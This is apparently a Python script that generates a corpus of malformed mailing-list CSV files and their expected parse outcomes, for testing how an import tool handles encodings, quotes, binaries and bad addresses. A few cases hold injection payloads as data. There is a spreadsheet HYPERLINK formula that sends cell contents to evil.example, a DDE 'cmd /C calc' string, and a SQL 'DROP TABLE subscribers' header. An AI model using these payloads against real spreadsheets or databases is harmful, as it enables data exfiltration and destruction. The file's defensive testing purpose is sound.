"""Write the hostile corpus: list files as CRMs, spreadsheets and broken uploads make them.

Run ``python3 tests/data/hostile/make_corpus.py`` to regenerate every file and
``expected.toml`` beside this script. The output is the same on every run: no clock,
no randomness. Each case says what a tenant with the default settings (count file
optional, at most 5% invalid records) should make of the file:

- ``status``: ``applied`` or ``voided`` (what ``listferry sync`` ends with);
- for ``applied``: ``records``, ``invalid`` and ``duplicates``;
- for ``voided``: ``reason``, a part of the reason;
- ``check``: ``"ok"`` when ``listferry check`` passes a file that only the plan checks
  of a sync void (the error-rate limit needs a tenant); otherwise ``check`` agrees.

A case may bring its count file (``count``), written as ``<stem>_count.txt``.
"""

from __future__ import annotations

import codecs
import gzip
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
HEADER = "email,first_name,last_name,segment_code"


@dataclass
class Case:
    name: str
    data: bytes
    status: str
    about: str
    records: int = 0
    invalid: int = 0
    duplicates: int = 0
    reason: str = ""
    check: str = ""
    count: bytes | None = None
    extra: dict = field(default_factory=dict)


def rows(n: int, start: int = 0, sep: str = ",") -> list[str]:
    return [
        sep.join((f"p{i}@example.org", f"First{i}", f"Last{i}", "GOLD"))
        for i in range(start, start + n)
    ]


def text(lines: list[str], newline: str = "\r\n", header: str = HEADER) -> str:
    return newline.join([header, *lines]) + newline


def utf8(lines: list[str], newline: str = "\r\n", header: str = HEADER) -> bytes:
    return text(lines, newline, header).encode("utf-8")


def png() -> bytes:
    """A real 1x1 PNG."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00\xff\x00\x00", 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def zipped(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def gzipped(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


FORTY = rows(40)
SEMI = rows(40, sep=";")
NAMES_CP1252 = [
    f"p{i}@example.org;{first};{last};GOLD"
    for i, (first, last) in enumerate(
        [("Zoë", "Müller"), ("“Ann”", "O’Neil"), ("Šárka", "€uro")] * 10
    )
]


def cases() -> list[Case]:
    out = [
        # Spreadsheets and their export formats
        Case(
            "excel_sep_line.csv",
            ("sep=;\r\n" + text(SEMI, header=HEADER.replace(",", ";"))).encode(),
            "applied",
            "Excel's 'sep=;' hint on the first line names the delimiter",
            records=40,
        ),
        Case(
            "excel_sep_line_bom.csv",
            codecs.BOM_UTF8
            + ("sep=|\r\n" + text(rows(40, sep="|"), header=HEADER.replace(",", "|"))).encode(),
            "applied",
            "a BOM, then Excel's 'sep=|' hint",
            records=40,
        ),
        Case(
            "excel_utf16le_unicode_text.csv",
            codecs.BOM_UTF16_LE
            + text(rows(40, sep="\t"), header=HEADER.replace(",", "\t")).encode("utf-16-le"),
            "applied",
            "Excel 'Unicode Text': UTF-16LE with BOM, tab-separated",
            records=40,
        ),
        Case(
            "utf16be_bom.csv",
            codecs.BOM_UTF16_BE + text(FORTY).encode("utf-16-be"),
            "applied",
            "UTF-16BE with BOM",
            records=40,
        ),
        Case(
            "utf16le_no_bom.csv",
            text(FORTY).encode("utf-16-le"),
            "applied",
            "UTF-16LE without a BOM (NUL in every other byte)",
            records=40,
        ),
        Case(
            "utf16le_cut_mid_character.csv",
            codecs.BOM_UTF16_LE + text(FORTY).encode("utf-16-le")[:-1],
            "voided",
            "UTF-16 upload cut in the middle of a character",
            reason="line 42",
        ),
        Case(
            "cp1252_euro_smart_quotes.csv",
            text(NAMES_CP1252, header=HEADER.replace(",", ";")).encode("cp1252"),
            "applied",
            "cp1252 from Excel: euro sign, smart quotes, accents",
            records=30,
        ),
        Case(
            "mac_roman_defined_in_cp1252.csv",
            utf8(FORTY[:5])
            + b"p90@example.org,Ren\x8e,Bj\x9arn,GOLD\r\n"
            + "\r\n".join(FORTY[5:]).encode()
            + b"\r\n",
            "applied",
            "Mac Roman accents (0x8E, 0x9A) read as cp1252: garbled, but text",
            records=41,
        ),
        Case(
            "mac_roman_undefined_in_cp1252.csv",
            utf8(FORTY[:5]) + b"p90@example.org,Fran\x8dois,Gar\x90on,GOLD\r\n",
            "voided",
            "Mac Roman bytes 0x8D and 0x90 have no cp1252 character",
            reason="line 7: bytes that are not cp1252 text",
        ),
        Case(
            "utf8_with_one_cp1252_name.csv",
            "\r\n".join([HEADER, "p0@example.org,Zoë,Ä,GOLD", *FORTY[1:5]]).encode()
            + b"\r\np9@example.org,Ren\xe9,X,GOLD\r\n",
            "voided",
            "UTF-8 file with one cp1252 name pasted in",
            reason="line 7: bytes that are not utf-8 text",
        ),
        Case(
            "utf8_overlong_sequence.csv",
            utf8(FORTY[:3]) + b"p50@example.org,\xc0\xaf,X,GOLD\r\n",
            "applied",
            "an overlong UTF-8 sequence after ASCII: read as cp1252, where 0xC0 0xAF are text",
            records=4,
        ),
        Case(
            "utf8_surrogate_bytes.csv",
            "\r\n".join([HEADER, "p0@example.org,Zoë,X,GOLD"]).encode()
            + b"\r\np1@example.org,\xed\xa0\x80,X,GOLD\r\n",
            "voided",
            "CESU-8 surrogate bytes in a UTF-8 file",
            reason="line 3: bytes that are not utf-8 text",
        ),
        Case(
            "bom_semicolons.csv",
            codecs.BOM_UTF8 + text(SEMI, header=HEADER.replace(",", ";")).encode(),
            "applied",
            "UTF-8 BOM and semicolons (German Excel)",
            records=40,
        ),
        Case(
            "bom_twice.csv",
            codecs.BOM_UTF8 * 2 + utf8(FORTY),
            "applied",
            "a BOM written twice by two tools in a row",
            records=40,
        ),
        Case(
            "bom_quoted_header.csv",
            codecs.BOM_UTF8 + utf8(FORTY, header='"Email","First Name","Last Name","Segment"'),
            "applied",
            "BOM before a quoted first header",
            records=40,
        ),
        Case("bom_only.csv", codecs.BOM_UTF8, "voided", "nothing but a UTF-8 BOM", reason="empty"),
        Case(
            "bom_utf16_only.csv",
            codecs.BOM_UTF16_LE,
            "voided",
            "nothing but a UTF-16 BOM",
            reason="empty",
        ),
        # Quotes
        Case(
            "quoted_newlines.csv",
            utf8([*FORTY[:10], 'p90@example.org,"Ann\r\nMarie","Smith\nJones",GOLD', *FORTY[10:]]),
            "applied",
            "names with line breaks inside quotes: one record each",
            records=41,
        ),
        Case(
            "unbalanced_quote_line3.csv",
            utf8([FORTY[0], 'p1@example.org,"Ann,Smith,GOLD', *FORTY[2:]]),
            "voided",
            "a quote opened at line 3 and never closed",
            reason="line 3: a quote opened in this record is never closed",
        ),
        Case(
            "quote_inside_unquoted_field.csv",
            utf8([*FORTY[:39], 'p90@example.org,Ann "The Boss",Smith,GOLD']),
            "applied",
            "a quote in the middle of an unquoted field is text",
            records=40,
        ),
        Case(
            "text_after_closing_quote.csv",
            utf8([*FORTY[:39], 'p90@example.org,"Ann"x,Smith,GOLD']),
            "applied",
            "text after a closing quote makes that one row invalid",
            records=40,
            invalid=1,
        ),
        Case(
            "doubled_quotes.csv",
            utf8([*FORTY[:39], 'p90@example.org,"The ""Boss""","O\'Neil, Jr.",GOLD']),
            "applied",
            "doubled quotes and a comma inside quotes",
            records=40,
        ),
        Case(
            "quoted_delimiters_semicolon_file.csv",
            text(
                [f'p{i}@example.org;"Last{i}, First{i}";x,y;GOLD' for i in range(40)],
                header=HEADER.replace(",", ";"),
            ).encode(),
            "applied",
            "semicolons between fields, commas inside them",
            records=40,
        ),
        # NULs, control bytes and binary
        Case(
            "nul_in_fields.csv",
            utf8(
                [*FORTY[:38], "p90@example.org,B\x00b,Ray,GOLD", "p91@exa\x00mple.org,Ada,X,GOLD"]
            ),
            "applied",
            "NUL bytes inside fields: the address with one is invalid",
            records=40,
            invalid=1,
        ),
        Case(
            "nul_padding_at_end.csv",
            utf8(FORTY) + b"\x00" * 4096,
            "applied",
            "a preallocated upload: NUL padding after the last line (one bad row)",
            records=41,
            invalid=1,
        ),
        Case(
            "nul_only.csv",
            b"\x00" * 1000,
            "voided",
            "a file of NUL bytes",
            reason="nul_only.csv line 1: the header names no column",
        ),
        Case(
            "ctrl_z_at_end.csv",
            utf8(FORTY) + b"\x1a",
            "applied",
            "a DOS end-of-file mark (Ctrl-Z) after the last line",
            records=41,
            invalid=1,
        ),
        Case(
            "png_renamed.csv",
            png(),
            "voided",
            "a PNG image renamed .csv",
            reason="missing column: email",
        ),
        Case(
            "zip_renamed.csv",
            zipped("subscriber_list.csv", utf8(FORTY)),
            "voided",
            "a zip archive renamed .csv",
            reason="missing column: email",
        ),
        Case(
            "gzip_csv.csv",
            gzipped(utf8(FORTY)),
            "voided",
            "a gzipped CSV named .csv",
            reason="gzip_csv.csv",
        ),
        Case(
            "json_array.csv",
            (
                "["
                + ",\n".join(
                    f'{{"email": "p{i}@example.org", "first_name": "F{i}"}}' for i in range(40)
                )
                + "]\n"
            ).encode(),
            "voided",
            "a JSON array named .csv",
            reason="missing column: email",
        ),
        Case(
            "json_lines.csv",
            "".join(
                f'{{"email":"p{i}@example.org","first_name":"F{i}"}}\n' for i in range(40)
            ).encode(),
            "voided",
            "JSON lines named .csv",
            reason="json_lines.csv line 1: the header is not readable as CSV",
        ),
        Case(
            "html_error_page.csv",
            b"<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head>\n"
            b"<body><h1>502 Bad Gateway</h1><p>nginx</p></body></html>\n",
            "voided",
            "an HTML error page saved as the export",
            reason="missing column: email",
        ),
        Case(
            "xml_export.csv",
            b'<?xml version="1.0" encoding="UTF-8"?>\n'
            b'<subscribers><s email="p0@example.org"/></subscribers>\n',
            "voided",
            "an XML export named .csv",
            reason="missing column: email",
        ),
        # Sizes
        Case(
            "huge_field_2mb.csv",
            utf8([*FORTY[:3], "p90@example.org," + "x" * (2 << 20) + ",Smith,GOLD"]),
            "voided",
            "a 2 MB field on line 5",
            reason="line 5",
        ),
        Case(
            "huge_quoted_field_2mb.csv",
            utf8([*FORTY[:3], 'p90@example.org,"' + ("y" * 99 + "\n") * 11_000 + '",Smith,GOLD']),
            "voided",
            "a 1.1 MB quoted field of many lines, starting on line 5",
            reason="line 5: a field is longer than",
        ),
        Case(
            "long_line_300k.csv",
            utf8([*FORTY[:39], "p90@example.org,Ann," + "z" * 300_000 + ",GOLD"]),
            "applied",
            "a 300 000-character last name: long, but under the field limit",
            records=40,
        ),
        Case(
            "ten_thousand_columns.csv",
            utf8(
                [
                    ",".join([f"p{i}@example.org", *(f"v{i}_{c}" for c in range(9999))])
                    for i in range(3)
                ],
                header=",".join(["email", *(f"col{c}" for c in range(9999))]),
            ),
            "applied",
            "10 000 columns: every one kept in fields",
            records=3,
        ),
        # Headers
        Case(
            "wide_100_columns.csv",
            utf8(
                [
                    ",".join([f"p{i}@example.org", *(f"v{i}_{c}" for c in range(99))])
                    for i in range(40)
                ],
                header=",".join(["email", *(f"Custom Field {c}" for c in range(99))]),
            ),
            "applied",
            "a CRM export with 99 custom fields",
            records=40,
        ),
        Case(
            "nul_in_header.csv",
            utf8(FORTY, header="email,first_na\x00me,last_name,seg\x00"),
            "applied",
            "NUL bytes inside header names",
            records=40,
        ),
        Case(
            "sql_in_header.csv",
            utf8([r + ",x" for r in FORTY], header=HEADER + ',"x\'); DROP TABLE subscribers; --"'),
            "applied",
            "a header that reads like SQL",
            records=40,
        ),
        Case(
            "duplicate_header_names.csv",
            utf8(
                [f"p{i}@example.org,A{i},B{i},C{i},GOLD" for i in range(40)],
                header="email,name,name,Name,segment",
            ),
            "applied",
            "the same header three times",
            records=40,
        ),
        Case(
            "two_email_columns.csv",
            utf8(
                [f"p{i}@example.org,home{i}@example.net,F{i}" for i in range(40)],
                header="Email,E-Mail Address,First Name",
            ),
            "applied",
            "two columns that both mean the address: the first is used",
            records=40,
        ),
        Case(
            "missing_email_column.csv",
            utf8(
                [f"F{i},L{i},GOLD" for i in range(40)], header="first_name,last_name,segment_code"
            ),
            "voided",
            "no column for the address",
            reason="missing column: email",
        ),
        Case(
            "title_line_before_header.csv",
            b"Subscriber export 2024-01-01\r\n" + utf8(FORTY),
            "voided",
            "a title line above the header",
            reason="missing column: email",
        ),
        Case(
            "german_header_cp1252.csv",
            text(
                [f"p{i}@example.org;Jürgen{i};Müller;GOLD" for i in range(40)],
                header="E-Mail-Adresse;Vorname;Nachname;Segment",
            ).encode("cp1252"),
            "applied",
            "German header words in cp1252",
            records=40,
        ),
        Case(
            "only_header.csv", utf8([]), "voided", "a header and nothing else", reason="no records"
        ),
        Case(
            "only_header_and_blank_rows.csv",
            utf8(["", ",,,", " , , , ", ""]),
            "voided",
            "a header, then empty rows",
            reason="no records",
        ),
        Case(
            "header_without_newline.csv",
            b"email",
            "voided",
            "one word, no line end",
            reason="no records",
        ),
        Case("empty.csv", b"", "voided", "zero bytes", reason="empty"),
        Case(
            "whitespace_only.csv", b"  \r\n\t\r\n\r\n", "voided", "blank lines only", reason="empty"
        ),
        Case(
            "header_names_nothing.csv",
            b",,,\r\nx,y,z,w\r\n",
            "voided",
            "an empty first line is skipped like any blank row: the next line is the header",
            reason="the file's header is 'x', 'y', 'z', 'w'",
        ),
        # Rows and line ends
        Case(
            "blank_lines.csv",
            utf8([*FORTY[:10], "", "", *FORTY[10:20], "   ", *FORTY[20:], "", ""]),
            "applied",
            "blank lines between and after the rows",
            records=40,
        ),
        Case(
            "trailing_delimiters.csv",
            utf8([r + "," for r in FORTY], header=HEADER + ","),
            "applied",
            "a delimiter at the end of every line",
            records=40,
        ),
        Case(
            "ragged_rows_few.csv",
            utf8(
                [*FORTY[:38], "p90@example.org,Ann,Smith", "p91@example.org,Ann,Smith,GOLD,extra"]
            ),
            "applied",
            "two rows with a field too few or too many",
            records=40,
            invalid=2,
        ),
        Case(
            "ragged_rows_many.csv",
            utf8([r if i % 2 else r.rsplit(",", 1)[0] for i, r in enumerate(FORTY)]),
            "voided",
            "half the rows short of a field: over the error-rate limit",
            reason="too many invalid records: 20 of 40",
            check="ok",
            extra={"records": 40, "invalid": 20},
        ),
        Case(
            "tab_separated.csv",
            utf8(rows(40, sep="\t"), header=HEADER.replace(",", "\t")),
            "applied",
            "tab-separated, named .csv",
            records=40,
        ),
        Case(
            "pipe_separated.csv",
            utf8(rows(40, sep="|"), header=HEADER.replace(",", "|")),
            "applied",
            "pipe-separated",
            records=40,
        ),
        Case(
            "single_column.csv",
            utf8([f"p{i}@example.org" for i in range(40)], header="email"),
            "applied",
            "only the address column",
            records=40,
        ),
        Case(
            "cr_only.csv",
            utf8(FORTY, newline="\r"),
            "applied",
            "classic Mac line ends (CR only)",
            records=40,
        ),
        Case("lf_only.csv", utf8(FORTY, newline="\n"), "applied", "Unix line ends", records=40),
        Case(
            "mixed_line_endings.csv",
            (
                HEADER
                + "\r\n"
                + "".join(r + ("\r\n", "\n", "\r")[i % 3] for i, r in enumerate(FORTY))
            ).encode(),
            "applied",
            "CRLF, LF and CR mixed in one file",
            records=40,
        ),
        Case(
            "no_final_newline.csv",
            utf8(FORTY)[:-2],
            "applied",
            "no line end after the last row",
            records=40,
        ),
        # Addresses
        Case(
            "formula_injection.csv",
            utf8(
                [
                    *FORTY[:36],
                    'p90@example.org,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Smith,GOLD',
                    "p91@example.org,+cmd|' /C calc'!A0,X,GOLD",
                    "p92@example.org,@SUM(1+1),-2+3,GOLD",
                    "p93@example.org,=1+1,X,=2",
                ]
            ),
            "applied",
            "spreadsheet formulas in name cells are stored as text",
            records=40,
        ),
        Case(
            "formula_as_address.csv",
            utf8([*FORTY[:39], '"=HYPERLINK(""http://evil.example"")",X,Y,GOLD']),
            "applied",
            "a formula where the address belongs is an invalid record",
            records=40,
            invalid=1,
        ),
        Case(
            "zero_width_space_in_address.csv",
            utf8([*FORTY[:39], "\u200bp90@example.org,Ann,Smith,GOLD"]),
            "applied",
            "a zero-width space pasted before an address: that record is invalid",
            records=40,
            invalid=1,
        ),
        Case(
            "nbsp_around_address.csv",
            utf8([*FORTY[:39], "\u00a0p90@example.org\u00a0,Ann,Smith,GOLD"]),
            "applied",
            "no-break spaces around an address are trimmed like spaces",
            records=40,
        ),
        Case(
            "idn_domains.csv",
            utf8(
                [
                    *FORTY[:36],
                    "jürgen@bücher.de,J,M,GOLD",
                    "user@xn--bcher-kva.de,U,X,GOLD",
                    "ivan@пример.рф,I,P,GOLD",
                    "李@例子.中国,L,X,GOLD",
                ]
            ),
            "applied",
            "internationalised domains, Unicode and punycode",
            records=40,
        ),
        Case(
            "upper_case_addresses.csv",
            utf8([r.upper() for r in FORTY]),
            "applied",
            "every address in capitals",
            records=40,
        ),
        Case(
            "duplicates_different_case.csv",
            utf8([*FORTY, "P1@Example.ORG,Again,One,GOLD", " p2@EXAMPLE.org ,Again,Two,GOLD"]),
            "applied",
            "the same addresses again in other case and with spaces",
            records=42,
            duplicates=2,
        ),
        Case(
            "invalid_addresses_few.csv",
            utf8([*FORTY[:38], "not-an-address,X,Y,GOLD", "a@b,X,Y,GOLD"]),
            "applied",
            "two bad addresses in forty: under the 5% limit",
            records=40,
            invalid=2,
        ),
        Case(
            "invalid_addresses_many.csv",
            utf8([*FORTY[:20], *(f"user{i}.example.org,X,Y,GOLD" for i in range(20))]),
            "voided",
            "half the addresses without an @: over the error-rate limit",
            reason="too many invalid records: 20 of 40",
            check="ok",
            extra={"records": 40, "invalid": 20},
        ),
        Case(
            "empty_addresses.csv",
            utf8([*FORTY[:39], ",Ann,Smith,GOLD"]),
            "applied",
            "one row without an address",
            records=40,
            invalid=1,
        ),
        # Count files
        Case(
            "count_mismatch.csv",
            utf8(FORTY),
            "voided",
            "a count file that disagrees with the list",
            reason="record count mismatch: count file says 41, file has 40 records",
            count=b"41\n",
        ),
        Case(
            "count_not_a_number.csv",
            utf8(FORTY),
            "voided",
            "a count file that holds a word",
            reason="must hold one whole number",
            count=b"forty\n",
        ),
        Case(
            "count_utf16.csv",
            utf8(FORTY),
            "voided",
            "a count file saved as UTF-16",
            reason="count file count_utf16_count.txt",
            count=codecs.BOM_UTF16_LE + "40\r\n".encode("utf-16-le"),
        ),
        Case(
            "count_quoted_newlines.csv",
            utf8([*FORTY[:39], 'p90@example.org,"Ann\nMarie",Smith,GOLD']),
            "applied",
            "the count file counts records, not lines",
            records=40,
            count=b"40\n",
        ),
    ]
    for case in out:
        if case.status == "applied":
            case.extra = {
                "records": case.records,
                "invalid": case.invalid,
                "duplicates": case.duplicates,
            }
    return out


def toml_string(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


def main() -> None:
    lines = [
        "# Expected outcomes of the hostile corpus, written by make_corpus.py: edit it there.",
        "",
    ]
    names = set()
    for case in cases():
        assert case.name not in names, case.name
        names.add(case.name)
        (HERE / case.name).write_bytes(case.data)
        lines.append(f"[{toml_string(case.name)}]")
        lines.append(f"about = {toml_string(case.about)}")
        lines.append(f"status = {toml_string(case.status)}")
        if case.status == "voided":
            lines.append(f"reason = {toml_string(case.reason)}")
        if case.check:
            lines.append(f"check = {toml_string(case.check)}")
        for key, value in case.extra.items():
            lines.append(f"{key} = {value}")
        if case.count is not None:
            stem = case.name.rsplit(".", 1)[0]
            (HERE / f"{stem}_count.txt").write_bytes(case.count)
            lines.append(f"count_file = {toml_string(stem + '_count.txt')}")
        lines.append("")
    (HERE / "expected.toml").write_text("\n".join(lines), encoding="utf-8")


if __name__ == "__main__":
    main()
